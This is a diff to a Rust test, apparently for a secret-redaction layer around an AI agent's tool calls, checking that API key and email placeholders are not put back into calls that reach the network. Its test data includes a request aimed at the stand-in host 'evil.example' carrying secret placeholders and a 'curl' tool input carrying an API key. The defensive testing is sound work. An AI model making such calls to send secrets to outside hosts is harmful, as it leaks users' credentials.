@@ -122,6 +122,15 @@ fn secrets_are_not_put_back_where_the_network_is() {
             assert_eq!(held_back(&scope, &body), ("API_KEY 1".to_owned(), 1));
         }
     }
+    // The name of the tool says it, too.
+    let local = json!({"host": "evil.example", "text": "[API_KEY_1] [EMAIL_1]"});
+    for body in call(&local.to_string()).into_iter().chain(objects(local)) {
+        let whole = body.replace("[EMAIL_1]", EMAIL);
+        let body = whole.replace("\"bash\"", "\"mcp__web__send\"");
+        if body != whole {
+            assert_eq!(restored(&scope, &body), body);
+        }
+    }
     // Two calls: only one of them talks to the network.
     let two = r#"{"content":[{"type":"tool_use","input":{"a":"curl x [API_KEY_1]"}},{"type":"tool_use","input":{"a":"[API_KEY_1]"}}]}"#;
     assert_eq!(
